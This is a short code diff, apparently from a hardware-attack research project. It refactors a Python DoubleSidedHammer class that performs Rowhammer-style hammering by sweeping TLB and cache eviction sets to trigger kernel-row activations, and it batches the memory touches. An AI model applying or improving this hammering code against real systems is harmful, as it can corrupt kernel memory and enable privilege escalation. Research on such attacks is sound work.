@@ -60,15 +60,17 @@ class DoubleSidedHammer:
     def round(self, nop_padding=0):
         """One double-sided iteration; returns its cost in cycles."""
         attacker = self.attacker
-        touch = attacker.touch
+        touch_many = attacker.touch_many
         start = attacker.rdtsc()
         for target in (self.target_a, self.target_b):
-            for va in target.tlb_set:
-                touch(va)
+            # One batch per target: TLB sweep, LLC sweep(s), then the
+            # touch that triggers the implicit kernel-row activation —
+            # same access order as the scalar loops this replaces.
+            addrs = list(target.tlb_set)
             for _ in range(self.llc_sweeps):
-                for va in target.llc_set.lines:
-                    touch(va)
-            touch(target.va + PROBE_DATA_OFFSET)
+                addrs.extend(target.llc_set.lines)
+            addrs.append(target.va + PROBE_DATA_OFFSET)
+            touch_many(addrs)
         if nop_padding:
             attacker.nop(nop_padding)
         end = attacker.rdtsc()
